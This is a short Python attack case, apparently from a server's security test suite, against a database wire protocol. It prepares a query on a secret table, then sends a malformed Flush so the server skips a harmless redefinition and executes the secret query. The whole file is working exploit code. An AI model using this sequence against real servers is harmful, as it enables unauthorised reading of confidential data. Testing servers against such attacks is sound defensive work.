"""Has the server skip what gives a name a harmless meaning, by a Flush that fails."""

from attacks.frames import SYNC, ask, bind, close, execute, message, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        heard = ask(client, parse(b"SELECT secret FROM vlt_account", b"s"), SYNC)
        heard += ask(
            client,
            message(b"H", b"more"),
            close(b"S", b"s"),
            parse(b"SELECT name FROM customer", b"s"),
            SYNC,
        )
        return heard + ask(client, bind(b"s"), execute(), SYNC)
